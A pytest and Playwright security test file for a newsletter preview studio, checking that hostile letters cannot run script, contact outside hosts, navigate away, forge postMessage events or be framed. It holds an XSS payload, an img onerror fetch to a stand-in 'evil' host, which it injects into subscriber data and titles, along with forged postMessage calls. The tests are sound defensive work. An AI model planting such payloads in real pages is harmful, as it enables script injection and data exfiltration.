"""A hostile letter in the studio, in Chromium: nothing of it runs, nothing leaves this machine, nobody is led away."""

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Frame, Page, expect

from newsletter.web.studio.model import Asked, View
from newsletter.web.studio.workspace_letters import Snapshot, WorkspaceLetters
from tests.web.studio.evil_site import Evil, evil_site
from tests.web.studio.studio_site import TOKEN, StudioSite, studio_site

HOSTILE = Path(__file__).with_name("hostile.html")
TWO_FRAMES_LATER = "new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(scrollY))))"
LOOKS = ["?look=light", "?look=dark&images=off"]


@pytest.fixture
def evil() -> Iterator[Evil]:
    with evil_site() as site:
        yield site


@pytest.fixture
def site(tmp_path: Path, evil: Evil) -> Iterator[StudioSite]:
    """A studio whose letters are hostile to the last byte: no template, sanitiser or inliner has touched them."""
    text = HOSTILE.read_text(encoding="utf-8").replace("EVIL", evil.url)

    class HostileSnapshot(Snapshot):
        def load(self, asked: Asked) -> View:
            view = super().load(asked)
            return replace(view, html=text.replace("TITLE", view.subject.partition("] ")[2]))

    class Hostile(WorkspaceLetters):
        def now(self) -> Snapshot:
            return HostileSnapshot(**vars(super().now()))

    with studio_site(tmp_path / "workspace", Hostile) as running:
        yield running


def letter_of(page: Page) -> Frame:
    expect(page.frame_locator("#letter").locator("h1")).to_have_text("신성장동력")
    frame = next(frame for frame in page.frames if "/letter/" in frame.url)
    frame.wait_for_load_state("load")
    return frame


def settle(page: Page, site: StudioSite) -> None:
    """Until a later letter is there: whatever this one has begun has by then been refused or seen."""
    site.edit("title: 신성장동력", "title: 뒤의 편지")
    expect(page.frame_locator("#letter").locator("h1")).to_have_text("뒤의 편지")
    site.edit("title: 뒤의 편지", "title: 신성장동력")
    expect(page.frame_locator("#letter").locator("h1")).to_have_text("신성장동력")


@pytest.mark.parametrize("query", LOOKS)
def test_looking_at_it_asks_nobody_anything(site: StudioSite, evil: Evil, page: Page, query: str) -> None:
    hosts: set[str] = set()
    page.on("request", lambda request: hosts.add(request.url.split("/")[2] if "//" in request.url else ""))
    page.goto(f"{site.url}/{query}")
    frame = letter_of(page)
    assert frame.evaluate("window.ran") is None
    assert frame.evaluate("self.origin") == "null"
    settle(page, site)
    assert evil.asked == []
    assert page.title() == "미리보기 · 서울이슈큐레이터"
    assert page.url.startswith(site.url)


def test_the_policy_says_so_and_not_only_chance(site: StudioSite, page: Page) -> None:
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.goto(site.url)
    letter_of(page)
    settle(page, site)
    said = "\n".join(refused)
    for directive in ("script-src", "img-src", "style-src", "font-src", "frame-src", "default-src"):
        assert directive in said


def test_no_click_leads_the_frame_or_the_page_away(site: StudioSite, evil: Evil, page: Page) -> None:
    for link in ("script", "data", "self", "top", "parent", "download", "send", "formaction"):
        page.goto(site.url)
        letter_of(page).locator(f"#{link}").click(no_wait_after=True)
        page.get_by_role("link", name="헤더").click()
        expect(page.get_by_role("region", name="헤더")).to_be_visible()
        assert page.url.startswith(site.url)
    assert evil.unasked == []


def test_a_link_opens_a_tab_that_knows_nothing_of_us(site: StudioSite, evil: Evil, page: Page) -> None:
    page.goto(site.url)
    for link in ("plain", "popup"):
        with page.context.expect_page() as opened:
            letter_of(page).locator(f"#{link}").click()
        opened.value.wait_for_load_state("load")
    with opened.value.expect_response(re.compile("popup-ran")) as ran:
        opened.value.reload()
    assert ran.value.url.endswith("/popup-ran?referrer=&opener=false")
    assert evil.unasked == []
    assert all(TOKEN not in referer and "/letter/" not in referer for referer in evil.referers)


def test_a_forged_message_moves_nothing(site: StudioSite, evil: Evil, page: Page) -> None:
    page.goto(site.url)
    frame = letter_of(page)
    with page.context.expect_page() as opened:
        frame.locator("#popup").click()
    opened.value.wait_for_load_state("load")
    before = frame.evaluate("scrollY")
    # Straight at the letter and at the page, as a window would that had got hold of them.
    page.evaluate("document.body.append(document.createElement('iframe'))")
    forger = next(one for one in page.frames if one.url == "about:blank")
    forger.evaluate("""() => {
      const letter = parent.document.getElementById("letter").contentWindow;
      letter.postMessage({ studio: "start", y: 1500 }, "*");
      letter.postMessage({ studio: "marks", marks: [{ finding: 1, tag: 70, severity: "error" }], visible: true }, "*");
      letter.postMessage({ studio: "show", finding: 1 }, "*");
      for (const word of ["painted", "pick", "key"]) parent.postMessage({ studio: word, finding: 1, key: "?" }, "*");
      parent.postMessage({ studio: "scroll", y: 1500 }, "*");
    }""")
    assert frame.evaluate(TWO_FRAMES_LATER) == before
    expect(page.locator("dialog[open]")).to_have_count(0)
    settle(page, site)
    assert letter_of(page).evaluate("scrollY") == before
    assert evil.unasked == []


def test_opened_in_a_tab_of_its_own_it_runs_nothing_and_goes_nowhere(site: StudioSite, evil: Evil, page: Page) -> None:
    page.goto(site.url)
    address = letter_of(page).url
    alone = page.context.new_page()
    answer = alone.goto(address)
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "allow-scripts" not in policy
    assert "nonce" not in policy
    expect(alone.locator("h1")).to_have_text("신성장동력")
    alone.locator("#self").wait_for()
    assert alone.url == address
    assert evil.asked == []


def test_another_page_on_this_machine_cannot_frame_us(site: StudioSite, evil: Evil, page: Page) -> None:
    page.goto(site.url)
    address = letter_of(page).url
    page.goto(f"{evil.url}/clicked")
    for framed in (f"{site.url}/", address):
        loaded = page.evaluate(
            """address => new Promise(resolve => {
              const frame = document.createElement("iframe");
              frame.onload = () => resolve(frame.contentDocument === null ? "other origin" : "blank");
              frame.src = address;
              document.body.append(frame);
            })""",
            framed,
        )
        assert loaded == "other origin"
    texts = [frame.locator("body").inner_text() for frame in page.frames if frame is not page.main_frame]
    assert all("신성장동력" not in text for text in texts)


def test_hostile_words_of_issue_and_subscribers_stay_words(tmp_path: Path, evil: Evil, page: Page) -> None:
    with studio_site(tmp_path / "workspace") as site:
        _shout(site, evil, page)


def _shout(site: StudioSite, evil: Evil, page: Page) -> None:
    shout = "<img src=x onerror=fetch(`" + evil.url + "/ran/words`)>"
    site.save(site.root / "subscribers.csv", f'email,name,language,tags\nhong@example.com,"{shout}",ko,"{shout}"\n')
    site.edit("title: 신성장동력", f"title: '{shout}'")
    page.goto(site.url)
    expect(page.frame_locator("#letter").locator("h1")).to_have_text(shout)
    for panel in ("findings", "sizes", "audience", "issues"):
        answer = page.request.get(f"{site.url}/panel/{panel}")
        assert "<img" not in answer.text()
    for view in ("text", "source", "message", "headers"):
        page.goto(f"{site.url}/?view={view}")
        expect(page.locator("#sheet")).to_be_visible()
        assert page.locator("img[src=x]").count() == 0
    assert evil.asked == []
